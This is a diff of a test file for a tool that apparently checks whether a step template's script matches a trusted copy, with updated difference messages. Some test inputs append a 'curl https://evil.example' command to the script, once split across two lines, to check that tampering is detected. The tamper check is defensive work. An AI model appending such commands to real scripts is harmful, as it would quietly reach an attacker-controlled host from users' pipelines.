@@ -48,12 +48,17 @@ describe('The verdict on a template', () => {
     [
       'another line of the script',
       withProperties({ [bodyProperty]: script.replace('two', '2') }),
-      'Its script differs from line 2 on (4 lines instead of 4).',
+      'Its script differs, first in line 2.',
     ],
     [
       'a line after the script',
       withProperties({ [bodyProperty]: `${script}curl https://evil.example` }),
-      'Its script differs from line 4 on (4 lines instead of 4).',
+      'Its script differs, first in line 4.',
+    ],
+    [
+      'lines after the script',
+      withProperties({ [bodyProperty]: `${script}curl \\\nhttps://evil.example` }),
+      'Its script differs, first in line 4; it has 5 lines instead of 4.',
     ],
     [
       'a property of its own',
@@ -78,6 +83,7 @@ describe('The verdict on a template', () => {
     expect(lines[2]).toBe(
       '  It does not come from these sources (version 1.0.0). Compared with step-template.json:',
     );
+    expect(lines.at(-1)).toMatch(/Otherwise do not use it\.$/);
   });
 
   it('names its version and the digest of its file', () => {
